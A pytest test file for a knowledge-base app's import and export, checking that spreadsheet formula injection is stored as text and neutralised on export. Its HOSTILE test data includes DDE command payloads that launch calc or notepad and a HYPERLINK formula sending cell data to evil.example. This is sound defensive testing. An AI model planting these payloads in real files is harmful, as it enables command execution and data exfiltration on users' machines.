"""Issue 10, row 5: formula injection in KB imports is stored as text and neutralised on
every export; our own export always re-imports to the same entries.

Also: a value stored before the import checked characters never crashes an export (one
clear refusal, no file), and the shared escape/unescape pair is exact.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from seat_app.cli import main
from seat_app.demo import kb as kb_demo
from seat_app.domain.text import FORMULA_TRIGGERS, sheet_escape, sheet_unescape
from seat_app.services.kb import io as kb_io
from seat_app.services.kb import rows as kb_rows
from seat_app.services.store.engine import make_engine, upgrade
from seat_app.services.store.models import KB_FIELDS, KBEntry

pytestmark = pytest.mark.integrity
T = KBEntry.__table__
HEADERS_ZH = [kb_io.HEADERS[f] for f in KB_FIELDS]

# (field, value): every OWASP trigger at the start of a stored value, the quote cases that
# make a naive "strip one quote" lossy, and legitimate values that only look like formulas
HOSTILE: list[tuple[str, str]] = [
    ("title", "=cmd|' /C calc'!A0"),
    ("answer", '=HYPERLINK("http://evil.example/?d="&A1,"点击查看办理进度")'),
    ("procedure", "+cmd|' /C notepad'!A0"),
    ("materials", "-2+3+cmd|' /C calc'!A0"),
    ("place", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("hours", "'=已经带引号的文字"),
    ("fees", "-5"),
    ("time_limit", "''+两个引号"),
    ("phone", "+86 0359 2022222"),
    ("unit", "'普通的引号开头"),
    ("keywords", "=SUM(A1:A9)、@提醒、-减免"),
    ("answer", "第一行\n=第二行不是开头\n-第三行"),
]


def sample(n: int, seed: int) -> list[dict]:
    out = []
    for e in kb_demo.generate_entries(n, seed=seed):
        e = dict(e)
        e.pop("id")
        e["code"] = "KB-" + e["code"].removeprefix(kb_demo.DEMO_CODE_PREFIX)
        out.append(e)
    return out


def hostile_entries() -> list[dict]:
    entries = sample(len(HOSTILE), seed=17)
    for entry, (name, value) in zip(entries, HOSTILE, strict=True):
        entry[name] = value
    return entries


def write_raw(path: Path, entries: list[dict]) -> Path:
    """A maintainer's file with the values exactly as typed (.csv, or .json: no quoting
    rule, so a leading quote is part of the text)."""
    rows = [["" if e[f] is None else (e[f].isoformat() if hasattr(e[f], "isoformat") else e[f])
             for f in KB_FIELDS] for e in entries]
    if path.suffix == ".json":
        data = [dict(zip(HEADERS_ZH, r, strict=True)) for r in rows]
        path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
        return path
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADERS_ZH)
        w.writerows(rows)
    return path


def stored(engine) -> dict[str, dict]:
    with engine.connect() as conn:
        return {r["code"]: {f: r[f] for f in KB_FIELDS}
                for r in conn.execute(select(T)).mappings()}


@pytest.fixture
def engine(tmp_path):
    eng = make_engine(f"sqlite:///{tmp_path / 'central.sqlite3'}")
    upgrade(eng)
    yield eng
    eng.dispose()


def test_escape_pair_is_exact_for_every_trigger():
    values = ["", "'", "''", "abc", "'abc", "-5", "+86 0359", "5-3", "a=b"]
    for t in FORMULA_TRIGGERS:
        values += [t, t + "x", "'" + t + "x", "''" + t, "x" + t]
    for v in values:
        escaped = sheet_escape(v)
        assert sheet_unescape(escaped) == v, v
        rest = escaped.lstrip("'")
        if rest and rest[0] in FORMULA_TRIGGERS:
            assert escaped.startswith("'") and escaped != v, v  # neutralised
        else:
            assert escaped == v  # nothing else is touched


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_hostile_cells_stored_as_text_exported_inert_and_reimported(engine, tmp_path, fmt):
    entries = hostile_entries()
    report = kb_io.import_file(engine, write_raw(tmp_path / "in.json", entries))
    assert report.ok, [e.line("en") for e in report.errors]
    first = stored(engine)
    for entry, (name, value) in zip(entries, HOSTILE, strict=True):
        expected = kb_rows._keywords(value) if name == "keywords" else value
        assert first[entry["code"]][name] == expected  # kept exactly, as text

    out = tmp_path / f"kb.{fmt}"
    assert kb_io.export_file(engine, out) == len(entries)

    if fmt == "xlsx":
        with zipfile.ZipFile(out) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in sheet and "<f " not in sheet  # not one formula
        ws = load_workbook(out).worksheets[0]  # formulas would read back as data_type "f"
        types = {c.data_type for row in ws.iter_rows(min_row=2) for c in row if c.value}
        assert "f" not in types
    elif fmt == "csv":
        with open(out, encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in list(csv.reader(fh))[1:] for c in row]
        assert cells and not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
        assert "'=cmd|' /C calc'!A0" in cells and "''=已经带引号的文字" in cells
        assert "'-5" in cells and "'普通的引号开头" in cells  # a plain quote is untouched
    else:
        data = json.loads(out.read_text("utf-8"))
        assert {d["标题"] for d in data} >= {"=cmd|' /C calc'!A0"}

    again = kb_io.import_file(engine, out)  # into the same database: nothing changes
    assert again.ok and (again.unchanged, again.updated, again.inserted) == (len(entries), 0, 0)
    other = make_engine(f"sqlite:///{tmp_path / 'other.sqlite3'}")
    try:
        upgrade(other)
        assert kb_io.import_file(other, out).inserted == len(entries)
        assert stored(other) == first  # every field, every entry, exactly
    finally:
        other.dispose()


def test_a_maintainers_csv_with_raw_formulas_imports_as_text(engine, tmp_path):
    entries = hostile_entries()
    report = kb_io.import_file(engine, write_raw(tmp_path / "in.csv", entries))
    assert report.ok, [e.line("en") for e in report.errors]
    got = stored(engine)
    for entry, (name, value) in zip(entries, HOSTILE, strict=True):
        value = sheet_unescape(value)  # a quote before a trigger is a spreadsheet's quote
        expected = kb_rows._keywords(value) if name == "keywords" else value
        assert got[entry["code"]][name] == expected


def test_csv_export_neutralises_leading_tab_and_carriage_return(engine, tmp_path):
    entries = sample(2, seed=5)
    entries[0]["answer"] = "\t=1+1"
    entries[1]["answer"] = "\r=1+1"
    kb_io.load_entries(engine, entries)  # a bulk load does not strip
    out = tmp_path / "kb.csv"
    kb_io.export_file(engine, out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    col = HEADERS_ZH.index("答复口径")
    assert sorted(r[col] for r in rows[1:]) == ["'\t=1+1", "'\r=1+1"]


def test_export_refuses_a_stored_control_character_and_writes_nothing(engine, tmp_path,
                                                                       seat_home, capsys):
    entries = sample(3, seed=8)
    entries[1]["answer"] = "办理\x07时间"
    kb_io.load_entries(engine, entries)  # as an import before issue 10 could store it
    out = tmp_path / "kb.xlsx"
    with pytest.raises(kb_io.KBExportError) as info:
        kb_io.export_file(engine, out)
    assert entries[1]["code"] in info.value.zh and "U+0007" in info.value.en
    assert not out.exists() and not list(tmp_path.glob("*.part"))

    # the same through seat-admin: one message, exit 1, no traceback
    cli_engine = make_engine(f"sqlite:///{seat_home / 'central.sqlite3'}")
    upgrade(cli_engine)
    kb_io.load_entries(cli_engine, entries)
    cli_engine.dispose()
    assert main(["--lang", "en", "kb", "export", str(out)]) == 1
    err = capsys.readouterr().err
    assert "nothing was written" in err and entries[1]["code"] in err
    assert "Traceback" not in err and not out.exists()


def test_an_xlsx_formula_cell_is_refused_not_read_as_empty(engine, tmp_path):
    from openpyxl import Workbook

    entries = sample(3, seed=12)
    wb = Workbook()
    ws = wb.active
    ws.append([*HEADERS_ZH, "备注"])
    for e in entries:
        ws.append([("" if e[f] is None else e[f]) for f in KB_FIELDS] + ["=1+1"])
    ws.cell(row=3, column=HEADERS_ZH.index("办理流程") + 1, value="=CONCAT(A1,B1)")  # formula
    text = ws.cell(row=4, column=HEADERS_ZH.index("办理流程") + 1, value="=不是公式")
    text.data_type = "s"  # a text cell that merely starts with "=" (as our export writes)
    path = tmp_path / "formulas.xlsx"
    wb.save(path)  # openpyxl stores no cached value: data_only would read None, i.e. ""

    report = kb_io.import_file(engine, path)
    assert [(e.row, e.column) for e in report.errors] == [(3, "办理流程")]  # 备注 is ignored
    assert "=CONCAT(A1,B1)" in report.errors[0].zh and "formula" in report.errors[0].en
    ws.cell(row=3, column=HEADERS_ZH.index("办理流程") + 1, value="先预约")
    wb.save(path)
    assert kb_io.import_file(engine, path).inserted == 3
    assert stored(engine)[entries[2]["code"]]["procedure"] == "=不是公式"
